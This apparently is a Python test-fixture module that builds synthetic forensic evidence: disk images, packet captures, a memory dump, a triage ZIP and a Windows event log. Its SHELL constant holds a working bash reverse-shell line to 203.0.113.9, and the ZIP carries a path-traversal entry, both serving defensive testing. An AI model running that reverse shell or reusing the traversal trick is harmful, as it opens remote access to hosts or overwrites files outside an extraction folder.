"""Evidence that is really what it says: images by mke2fs, captures packet by packet, memory with planted texts."""

import hashlib
import os
import shutil
import socket
import subprocess
import zipfile
from pathlib import Path

import dpkt

from secops.practice.products.packets import Talk, packets_of, pcap
from secops.practice.products.windows_files import EventLog
from tests.enrichment.forensics import windows_material
from tests.enrichment.forensics.windows_material import AT

LOADER = b"MZ" + b"the loader that was deleted " * 100
SHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"
OUTSIDE = "93.184.216.34"
PAYLOAD = b"MZ" + b"what was fetched " * 40
PAYLOAD_SHA256 = hashlib.sha256(PAYLOAD).hexdigest()
PATH = f"{os.environ.get('PATH', '')}:/usr/sbin:/sbin"


def disk(folder: Path) -> Path:
    """An ext4 file system in which one program was deleted and one shell script stays."""
    source, image = folder / "files", folder / "disk.dd"
    (source / "home" / "ada").mkdir(parents=True)
    (source / "etc").mkdir()
    (source / "etc" / "motd").write_text("hello\n")
    (source / "home" / "ada" / "updater.dll").write_bytes(LOADER)
    (source / "home" / "ada" / "run.sh").write_bytes(SHELL)
    for path in source.rglob("*"):
        os.utime(path, (AT, AT))
    env = {"PATH": PATH}
    run = {"check": True, "capture_output": True, "env": env}
    subprocess.run(["mke2fs", "-q", "-t", "ext4", "-d", source, image, "2M"], **run)
    subprocess.run(["debugfs", "-w", "-R", "rm /home/ada/updater.dll", image], **run)
    return image


def partitioned(image: Path, folder: Path) -> Path:
    """The same as the second partition of a disk with an MBR; the first has nothing that is known."""
    start, content = 2_048, image.read_bytes()
    table = bytearray(start * 512)
    for slot, (first, sectors) in enumerate(((64, 1_024), (start, len(content) // 512))):
        entry = bytes([0, 0, 0, 0, 0x83, 0, 0, 0]) + first.to_bytes(4, "little") + sectors.to_bytes(4, "little")
        table[446 + 16 * slot : 462 + 16 * slot] = entry
    table[510:512] = b"\x55\xaa"
    made = folder / "partitioned.dd"
    made.write_bytes(bytes(table) + content)
    return made


def ewf(image: Path, folder: Path) -> Path | None:
    """The same in an EWF container; None where ewfacquire is missing."""
    if shutil.which("ewfacquirestream") is None:
        return None
    command = ["ewfacquirestream", "-q", "-t", folder / "disk", "-e", "Bo Mars", "-C", "CASE-1", "-c", "best"]
    subprocess.run(command, input=image.read_bytes(), check=True, capture_output=True)
    return folder / "disk.E01"


def capture(folder: Path) -> Path:
    """A name is asked for, a TLS hello and a plain request go out, and one packet is broken."""
    path = folder / "capture.pcap"
    query = bytes(dpkt.dns.DNS(id=1, qd=[dpkt.dns.DNS.Q(name="cdn-metrics.example", type=1, cls=1)]))
    request = b"GET /a HTTP/1.1\r\nHost: plain.example:80\r\n\r\n"
    with path.open("wb") as file:
        writer = dpkt.pcap.Writer(file)
        datagram = dpkt.udp.UDP(sport=5353, dport=53, data=query, ulen=8 + len(query))
        writer.writepkt(_frame("10.0.0.53", datagram, 17), AT)
        writer.writepkt(_frame(OUTSIDE, dpkt.tcp.TCP(sport=50000, dport=443, data=hello("c2.evil.example")), 6), AT + 1)
        writer.writepkt(_frame(OUTSIDE, dpkt.tcp.TCP(sport=50001, dport=80, data=request), 6), AT + 2)
        writer.writepkt(b"\0" * 12 + b"\x08\0" + b"\x4f", AT + 3)
    return path


def download(folder: Path) -> Path:
    """A whole HTTP exchange, handshake to end, in which a file is fetched."""
    path = folder / "download.pcap"
    asks = b"GET /a.bin HTTP/1.1\r\nHost: plain.example\r\n\r\n"
    head = f"HTTP/1.1 200 OK\r\nContent-Length: {len(PAYLOAD)}\r\nContent-Type: application/octet-stream\r\n\r\n"
    talk = Talk(
        at=AT,
        mac="02:42:0a:00:00:05",
        address="10.0.0.5",
        port=50_000,
        peer=OUTSIDE,
        peer_port=80,
        name="plain.example",
    )
    path.write_bytes(pcap(packets_of(talk, asks=asks, answers=head.encode() + PAYLOAD)))
    return path


def _frame(to: str, inner: dpkt.Packet, protocol: int) -> bytes:
    packet = dpkt.ip.IP(src=socket.inet_aton("10.0.0.5"), dst=socket.inet_aton(to), p=protocol, data=inner)
    packet.len = len(packet)
    return bytes(dpkt.ethernet.Ethernet(src=b"\1" * 6, dst=b"\2" * 6, data=packet))


def hello(name: str) -> bytes:
    """A TLS client hello that names its server."""
    entry = b"\0" + len(name).to_bytes(2) + name.encode()
    extension = b"\0\0" + (len(entry) + 2).to_bytes(2) + len(entry).to_bytes(2) + entry
    body = b"\3\3" + bytes(32) + b"\0" + b"\0\2\x13\1" + b"\1\0" + len(extension).to_bytes(2) + extension
    message = b"\1" + len(body).to_bytes(3) + body
    return b"\x16\3\1" + len(message).to_bytes(2) + message


def memory(folder: Path) -> Path:
    """Texts of one and of two bytes a letter, one of them across the border of two windows."""
    path, window = folder / "memory.mem", 16 * 2**20
    first = b"\1" * (window - 10) + b"https://across.example/border\0"
    wide = "http://wide.example/a".encode("utf-16-le") + b"\0\0" + "45.33.32.156".encode("utf-16-le") + b"\0\0"
    path.write_bytes(first + b"\1" * 500 + wide + f" {OUTSIDE} v1.2.3.4.5 10.1.2.3 ".encode() + SHELL)
    return path


def package(folder: Path) -> Path:
    """A ZIP whose names try to leave it, with a file far larger than its packed form."""
    path = folder / "triage.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("../../run.sh", (2026, 9, 21, 14, 13, 20)), SHELL)
        archive.writestr("zeros.bin", bytes(20_000_000))
        archive.writestr("SOFTWARE", windows_material.hive("Run", "Updater", "C:\\Users\\ada\\AppData\\updater.exe"))
        archive.writestr("Security.evtx", event_log())
    return path


def event_log() -> bytes:
    """A log that was cleared, a service, a program of each sort, and a sign-in from afar and one at the keyboard."""
    log = EventLog()
    log.add(1102, AT, SubjectUserName="ada")
    log.add(7045, AT, ServiceName="upd", ImagePath="C:\\Users\\ada\\upd.exe")
    log.add(4688, AT, NewProcessName="C:\\a.exe", CommandLine="powershell -enc AAAA")
    log.add(4688, AT, NewProcessName="C:\\Windows\\notepad.exe", CommandLine="notepad")
    log.add(4624, AT, TargetUserName="ada", LogonType="10", IpAddress="203.0.113.9")
    log.add(4624, AT, TargetUserName="ada", LogonType="2", IpAddress="-")
    return log.content()
